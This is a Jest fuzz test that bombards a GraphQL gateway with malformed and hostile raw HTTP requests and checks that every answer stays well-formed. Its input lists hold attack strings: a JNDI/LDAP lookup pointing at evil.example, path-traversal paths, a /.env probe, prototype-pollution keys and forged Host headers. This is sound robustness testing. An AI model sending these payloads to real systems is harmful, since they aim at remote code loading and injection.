import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import type { Emulator } from '../../../src/emulator/server.ts';
import { type RawAnswer, sendRaw } from '../../support/rawConnection.ts';
import { startTestGateway, type TestGateway } from '../../support/testGateways.ts';
import { startTestGraph } from '../../support/testGraphs.ts';
import { timeLimitMs, volumeOf } from '../volume.ts';
import { findAnswerProblem } from './judgeAnswer.ts';
import { built, type Choices, playRandomCases } from './randomCases.ts';
import { randomJunk, randomText, words } from './randomValues.ts';

/** A request as bytes. */
interface RandomRequest {
  readonly bytes: Buffer;
  /** Whether it is HTTP, whatever it asks for; of anything else only some answer or a closed connection is expected. */
  readonly isHttp: boolean;
  readonly method: string;
}

const good = '{"query":"{ complianceManagementPartners { totalCount } }"}';

const contentTypes = [
  ...['application/json; charset=utf-8', 'application/json; charset=utf-16', ''],
  ...['application/json; charset="', 'multipart/form-data; boundary=x'],
  ...['multipart/mixed; boundary="-"', 'text/plain; charset=utf-8', 'application/json, text/plain'],
  ...words(`
    application/json application/json;charset=iso-8859-1 APPLICATION/JSON application/graphql
    application/graphql+json application/x-www-form-urlencoded multipart/form-data text/plain
    text/html application/xml / ; json */*`),
];

const methods = words('POST GET PUT PATCH DELETE OPTIONS HEAD TRACE PROPFIND QUERY LOCK SEARCH');

const paths = words(`
  /graphql /graphql?query=%7B__typename%7D /graphql?query={__typename} /graphql?query=%E0%A4%A
  /graphql?query=%00 /graphql?query=a&query=b&variables=%7B&extensions=[]
  /graphql?query=mutation%7BdeleteComplianceManagementPartner(input:%7Bid:%22a%22%7D)%7BuserErrors%7Bcode%7D%7D%7D
  /graphql?__proto__[query]=x&constructor.prototype=y /graphql/ /GraphQL /graphql%2f..%2f
  /graphql;a=b //graphql /./graphql /../graphql /%2e%2e/graphql /% /%zz /%c0%ae /schema.graphql
  /livez /readyz?x /metrics /.env /favicon.ico /__proto__ http://127.0.0.1/graphql
  http://[::1/graphql * /?x`);

const odd = Object.entries({
  accept: [
    ...['application/graphql-response+json', 'text/event-stream', ';;;q=,', 'application/json;q=0'],
    'multipart/mixed; deferSpec=20220824',
  ],
  'accept-encoding': ['gzip;q=1.0, br'],
  'content-encoding': ['gzip', 'br, gzip', 'identity'],
  expect: ['200-maybe', '100-continue'],
  cookie: ['__proto__=x; a=b'],
  origin: ['null', 'https://evil.example'],
  prefer: ['wait=0', 'wait=99999999999999', 'wait=-1, return=minimal;;'],
  'client-request-id': ['a b\tc', 'x'.repeat(500), '__proto__'],
  traceparent: ['00-00000000000000000000000000000000-0000000000000000-00', 'ff-zz'],
  tracestate: ['x'.repeat(600)],
  authorization: ['Bearer', 'Basic YTpi', `Bearer ${'a'.repeat(5_000)}`, 'Bearer \u00fc'],
  'x-forwarded-for': ['127.0.0.1, unknown'],
  'x-forwarded-host': ['evil.example'],
  'x-http-method-override': ['DELETE'],
  'apollo-require-preflight': [''],
  'x-apollo-operation-name': ['\u00ff'],
  'apollographql-client-name': ['\u0024{jndi:ldap://evil.example/a}'],
  ['__proto__']: ['x'],
  constructor: ['x'],
  host: ['evil.example'],
  'content-type': ['text/plain'],
  range: ['bytes=0-'],
  'if-none-match': ['*'],
  'max-forwards': ['0'],
  te: ['trailers'],
  'upgrade-insecure-requests': ['1'],
}).flatMap(([name, values]) => values.map((value) => [name, value] as const));

/** Draws a request: bytes, broken JSON, odd types and headers, any method, path and query; some are no HTTP at all. */
function randomRequest(choices: Choices): RandomRequest {
  const method = choices.chance(65) ? 'POST' : choices.pick(methods);
  const path = choices.chance(60) ? '/graphql' : choices.pick(paths);
  const body = randomBody(choices);
  const headers: (readonly [string, string])[] = [
    ['host', '127.0.0.1'],
    ['connection', 'close'],
    ['content-length', String(body.length)],
  ];
  if (choices.chance(90)) {
    headers.push([
      'content-type',
      choices.chance(60) ? 'application/json' : choices.pick(contentTypes),
    ]);
  }
  if (choices.chance(70)) {
    headers.push(['authorization', 'Bearer embedded-graph-token']);
  }
  headers.push(...choices.some(4, () => choices.pick(odd)));
  const head = `${method} ${path} HTTP/1.1\r\n${headers.map(([name, value]) => `${name}: ${value}\r\n`).join('')}\r\n`;
  const bytes = Buffer.concat([Buffer.from(head, 'latin1'), body]);
  return choices.chance(8)
    ? { bytes: cutBytes(bytes, choices), isHttp: false, method }
    : { bytes, isHttp: true, method };
}

function randomBody(choices: Choices): Buffer {
  const make = choices.pick<() => Buffer | string>([
    () => '',
    () => Buffer.from(choices.some(60, () => choices.below(256))),
    () => randomText(choices),
    () => randomJunk({ kind: 'json' }, choices),
    () => cutBytes(Buffer.from(good), choices),
    () => `[${good},${good}]`,
    () => `\ufeff${good}`,
    () => Buffer.from(good, choices.pick(['utf16le', 'latin1', 'utf8'])),
    () =>
      choices.pick([
        '['.repeat(choices.below(20_000)),
        `{"query":"{ __typename }","variables":${'{"a":'.repeat(choices.below(5_000))}1}`,
        `{"query":"${'x'.repeat(choices.below(65_536))}"}`,
        `{"query":"{ __typename }","x":"${'x'.repeat(65_536)}"}`,
        '{"query":"{ __typename }","query":"{ nothing }"}',
        '{"__proto__":{"query":"{ __typename }"}}',
        '{"query":null,"variables":{},"extensions":{"persistedQuery":{"version":1,"sha256Hash":"00"}}}',
        '{"query":{"kind":"Document"},"variables":[1]}',
        '{"query":"{ __typename }","variables":"{}","operationName":7,"extensions":null}',
        '--x\r\ncontent-disposition: form-data; name="operations"\r\n\r\n{}\r\n--x--',
        'query=%7B__typename%7D&variables=%7B%7D',
      ]),
    () => good,
  ]);
  const made = make();
  return Buffer.isBuffer(made) ? made : Buffer.from(made);
}

/** Takes bytes out and puts others in. */
function cutBytes(bytes: Buffer, choices: Choices): Buffer {
  const at = choices.below(Math.min(65_536, bytes.length + 1));
  const put = Buffer.from(choices.some(4, () => choices.below(256)));
  return Buffer.concat([bytes.subarray(0, at), put, bytes.subarray(at + choices.below(8))]);
}

const wanted = volumeOf(10_000);

let graph: Emulator;
let gateway: TestGateway;

beforeAll(async () => {
  graph = await startTestGraph();
  gateway = await startTestGateway({
    GRAPH_BASE_URL: graph.baseUrl,
    NODE_ENV: 'production',
    LOG_LEVEL: 'info',
  });
});

afterAll(async () => {
  await gateway.stop(0);
  await graph.close();
});

/** Pages of their own, which are no GraphQL. */
const otherPages = ['{"status":"alive"}', '{"status":"running"}'];

function problemOf(
  { isHttp, method, bytes }: RandomRequest,
  answer: RawAnswer | undefined,
): string[] {
  const told = (problem: string): string[] => [
    `${problem}: ${JSON.stringify(answer).slice(0, 500)} to ${JSON.stringify(bytes.toString('latin1').slice(0, 1_500))}`,
  ];
  if (answer === undefined) {
    return isHttp ? told('it is no answer') : [];
  }
  const { status, headers, text } = answer;
  if (status >= 500) {
    return told(`it is a ${status}`);
  }
  if (method === 'HEAD' || !isHttp) {
    return [];
  }
  const isSchema = status === 200 && text.includes('type ComplianceManagementPartner');
  if (isSchema || otherPages.includes(text)) {
    return [];
  }
  const seen = { status, contentType: headers['content-type']?.join(), text };
  const problem = findAnswerProblem(seen);
  return problem === undefined ? [] : told(problem);
}

describe('generated requests', () => {
  it(
    'all have an answer in JSON that blames no server, whatever their bytes are',
    async () => {
      const played = await playRandomCases({
        count: wanted,
        atOnce: 40,
        cases: built(120, randomRequest),
        async play(requests) {
          const answers = await Promise.all(
            requests.map(({ bytes, isHttp }) => sendRaw(gateway.url, bytes, !isHttp)),
          );
          return requests.flatMap((one, index) => problemOf(one, answers[index]));
        },
      });
      expect(played).toBeGreaterThanOrEqual(wanted);
      expect(gateway.logLines.filter((line) => line.includes('unexpectedly'))).toEqual([]);
      expect((await gateway.get('/readyz')).status).toBe(200);
    },
    timeLimitMs(wanted),
  );
});
